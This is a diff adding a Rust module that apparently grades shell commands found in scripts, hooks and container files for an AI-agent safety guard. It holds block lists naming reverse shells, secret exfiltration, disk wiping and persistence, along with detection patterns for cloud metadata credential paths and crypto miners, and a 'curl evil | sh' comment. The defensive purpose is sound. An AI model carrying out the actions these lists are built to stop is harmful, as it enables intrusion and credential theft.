@@ -1,0 +1,210 @@
+//! How bad it is that a command stands in a file which will be executed later. Milder than for a command that is run now: scripts
+//! reset work trees, drop databases and delete directories that they made as a matter of course.
+
+use super::super::packages::is_usual;
+use crate::domain::{Action, EffectKind, Target, Tool, ToolCall, Verdict};
+use crate::rules::builtin::lists;
+use crate::rules::matcher::{Class, Scene, classify, host_of, inner_rules, inside};
+
+/// Longest text that is looked at as one script, in bytes.
+const MAX_SCRIPT: usize = 128 * 1024;
+
+/// Where a command will run, and how it is started.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Place {
+    /// On this machine, when somebody starts it.
+    Script,
+    /// On this machine, by something that seems to do something else: a hook, an installation, an opened folder.
+    Hook,
+    /// In a container or on a machine that is thrown away.
+    Container,
+}
+
+/// Rules that are meant wherever a command stands.
+const EVERYWHERE: &[&str] = &[
+    "network.reverse-shell",
+    "network.secret-sent",
+    "network.decoded-to-shell",
+    "system.fork-bomb",
+    "code.hidden",
+];
+
+/// Rules for what no script of this machine does.
+const RUINOUS: &[&str] = &[
+    "files.write-accounts",
+    "files.chmod-wide",
+    "files.delete-piped",
+    "disks.write-device",
+    "disks.format",
+    "disks.partition",
+    "disks.wipe",
+    "system.kill-everything",
+    "persistence.preload",
+    "persistence.authorized-keys",
+    "shell.separator-trick",
+    "shell.hidden-command",
+    "selfprotect.place-changed",
+    "selfprotect.client-unguarded",
+    "selfprotect.own-commands",
+    "selfprotect.hooks-disabled",
+    "selfprotect.killed",
+    "privilege.setuid",
+    "secrets.memory",
+    "code.deletes",
+];
+
+/// Rules for what few scripts do.
+const SUSPECT: &[&str] = &[
+    "persistence.cron",
+    "persistence.crontab",
+    "persistence.system-startup",
+    "system.security-off",
+    "system.firewall",
+    "system.logs-removed",
+    "system.history-cleared",
+    "system.crontab-removed",
+    "privilege.sudoers",
+    "privilege.password-typed",
+    "privilege.namespaces",
+    "secrets.key-changed",
+    "secrets.file-read",
+    "network.drop-site",
+    "shell.nul-byte",
+    "code.runs-blocked-command",
+    "code.writes-blocked-file",
+];
+
+/// Rules for code from the network, which is ordinary from the hosts of known installers.
+const FETCHED: &[&str] = &["network.download-to-shell", "network.download-then-run", "packages.run-from-url"];
+
+/// Hosts of installers that documentation tells everybody to pipe into a shell.
+const INSTALLERS: &[&str] = &[
+    "sh.rustup.rs", "get.docker.com", "astral.sh", "deb.nodesource.com", "rpm.nodesource.com", "bun.sh", "bun.com",
+    "get.pnpm.io", "install.python-poetry.org", "get.helm.sh", "get.k3s.io", "codecov.io", "uploader.codecov.io",
+    "cli.codecov.io", "get.sdkman.io", "get.volta.sh", "nixos.org", "install.determinate.systems", "starship.rs",
+    "pyenv.run", "get.rvm.io", "sdk.cloud.google.com", "aka.ms", "packages.microsoft.com", "claude.ai",
+    "opencode.ai", "ollama.com", "tailscale.com", "fly.io", "cli.github.com", "apt.llvm.org", "download.docker.com",
+    "packagecloud.io", "bootstrap.pypa.io", "yarnpkg.com", "cursor.com", "mise.run", "mise.jdx.dev", "direnv.net",
+    "getcomposer.org", "dot.net", "dotnet.microsoft.com", "get-ghcup.haskell.org", "rclone.org", "foundry.paradigm.xyz",
+    "just.systems", "deno.land", "wasmtime.dev", "get.pulumi.com", "raw.github.com", "cdn.jsdelivr.net", "unpkg.com",
+    "toolbelt.heroku.com", "cli-assets.heroku.com", "get.jetify.com", "get.jetpack.io", "devenv.sh", "pixi.sh",
+    "micro.mamba.pm", "repo.anaconda.com", "dl.google.com", "storage.googleapis.com", "s3.amazonaws.com",
+    "awscli.amazonaws.com", "releases.hashicorp.com", "apt.releases.hashicorp.com", "apt.postgresql.org",
+    "www.postgresql.org", "nginx.org", "keybase.io", "git.io", "sentry.io", "get.sentry.io", "linkerd.io", "run.linkerd.io",
+    "istio.io", "fluxcd.io", "dapr.io", "get.tur.so", "railway.app", "railway.com", "vercel.com", "netlify.com",
+    "wasmer.io", "get.wasmer.io", "rustwasm.github.io", "anthropic.com", "ohmyz.sh", "install.ohmyz.sh", "example.com",
+];
+
+/// What a command in a file deserves.
+pub(super) fn command(scene: &Scene<'_>, text: &str, place: Place) -> Verdict {
+    if text.len() > MAX_SCRIPT || text.trim().is_empty() {
+        return Verdict::Allow;
+    }
+    let action = Action::Shell { command: text.to_owned(), workdir: None };
+    let call = ToolCall { tool: Tool::Bash, action, id: None };
+    inner_rules(scene, &call, scene.view.cwd, |inner, ids| {
+        let any = |list: &[&str]| ids.iter().any(|id| list.contains(id));
+        let machine = place != Place::Container;
+        let mut worst = deletions(inner, place);
+        if any(EVERYWHERE) || machine && any(RUINOUS) || any(&["network.metadata"]) && takes_credentials(text) {
+            worst = Verdict::Block;
+        }
+        if machine && any(SUSPECT) || mines(text) {
+            worst = worst.max(if place == Place::Hook { Verdict::Block } else { Verdict::Modify });
+        }
+        if any(FETCHED) {
+            worst = worst.max(fetched(scene, text, place));
+        }
+        worst
+    })
+}
+
+/// The deletions in a script: of places that no script may delete, and of those that few do.
+fn deletions(inner: &Scene<'_>, place: Place) -> Verdict {
+    let home = inner.view.facts.places.home.as_deref();
+    let judged = inner.effects().filter(|(effect, _)| effect.kind == EffectKind::FileDeletion).map(|(effect, classes)| {
+        let (path, recursive) = match &effect.target {
+            Target::Path { path, recursive, .. } => (path.as_str(), *recursive),
+            Target::UnknownPath { .. } | Target::Url(_) | Target::Command(_) | Target::None => return Verdict::Allow,
+        };
+        if !recursive {
+            return Verdict::Allow;
+        }
+        if place == Place::Container {
+            return if classes.has(Class::Root) { Verdict::Block } else { Verdict::Allow };
+        }
+        place_of(path, classes.any(&[Class::Root, Class::Home, Class::Users]), home)
+    });
+    let own_secret = inner.effects().any(|(effect, _)| {
+        let secret = classify(&effect.target, EffectKind::FileRead, &inner.view).has(Class::Secret);
+        effect.kind == EffectKind::FileDeletion && secret && place != Place::Container
+    });
+    judged.max().unwrap_or_default().max(if own_secret { Verdict::Block } else { Verdict::Allow })
+}
+
+/// What deleting a whole directory deserves.
+pub(super) fn place_of(path: &str, whole: bool, home: Option<&str>) -> Verdict {
+    const KEPT: &[&str] = &["/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/var", "/root", "/home", "/dev", "/sys", "/proc", "/var/lib", "/usr/bin", "/usr/lib", "/usr/local", "/System", "/Library", "/Users", "/Applications"];
+    let plain = path.trim_end_matches(['/', '*', '.']);
+    if whole || path.trim_matches('/').is_empty() || KEPT.contains(&plain) || inside(plain, "/boot") {
+        return Verdict::Block;
+    }
+    let below = home.and_then(|home| plain.strip_prefix(home)).map(|rest| rest.trim_start_matches('/'));
+    match below {
+        Some(name) if matches!(name, "Documents" | "Desktop" | "Pictures" | "Downloads" | ".ssh" | ".gnupg" | ".aws" | ".kube" | ".config" | ".local") => Verdict::Block,
+        Some(_) | None => Verdict::Allow,
+    }
+}
+
+/// Hosts of code that is fetched and run.
+fn fetched(scene: &Scene<'_>, text: &str, place: Place) -> Verdict {
+    let line_runs = |line: &&str| line.contains("://");
+    let hosts = text.lines().filter(line_runs).flat_map(|line| {
+        line.match_indices("://").map(move |(at, _)| {
+            let start = line.get(..at).unwrap_or_default();
+            let rest = line.get(at + 3..).unwrap_or_default();
+            let end = rest.find([' ', '"', '\'', '|', ')', ';', '`', '\\']).unwrap_or(rest.len());
+            (start.ends_with("http"), rest.get(..end).unwrap_or_default())
+        })
+    });
+    let mut worst = Verdict::Allow;
+    let mut named = false;
+    for (bare, rest) in hosts {
+        named = true;
+        let host = host_of(rest);
+        if host.contains(['$', '{', '<', '…']) || host.is_empty() {
+            continue;
+        }
+        let known = is_usual(&host, scene.view.policy)
+            || INSTALLERS.iter().any(|name| host == *name || host.strip_suffix(name).is_some_and(|front| front.ends_with('.')));
+        let address = host.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+        if !known || address && !host.starts_with("127.") {
+            let sure = bare || address || place == Place::Hook;
+            worst = worst.max(if sure { Verdict::Block } else { Verdict::Modify });
+        }
+    }
+    // `curl evil | sh`: a host without a scheme.
+    if named { worst } else { Verdict::Modify }
+}
+
+/// A path of the metadata service under which it keeps credentials.
+pub(super) fn takes_credentials(text: &str) -> bool {
+    ["security-credentials", "service-accounts", "oauth2/token", "user-data", "169.254.170.2", "identity/oauth2"]
+        .iter()
+        .any(|part| text.contains(part))
+}
+
+/// Signs of a program that mines.
+fn mines(text: &str) -> bool {
+    ["stratum+tcp://", "stratum+ssl://", "xmrig", "minerd -", "cpuminer", "--donate-level", "cryptonight"].iter().any(|word| text.contains(word))
+}
+
+/// A host that is not among the usual ones, anywhere in a text.
+pub(super) fn foreign_host(scene: &Scene<'_>, text: &str) -> bool {
+    text.split("://").skip(1).any(|rest| {
+        let end = rest.find([' ', '"', '\'', ')', '\n', ',', '`', '|']).unwrap_or(rest.len());
+        let host = host_of(rest.get(..end).unwrap_or_default());
+        host.contains('.') && !host.contains(['$', '{']) && !is_usual(&host, scene.view.policy)
+            && !lists::METADATA_HOSTS.contains(&host.as_str())
+    })
+}
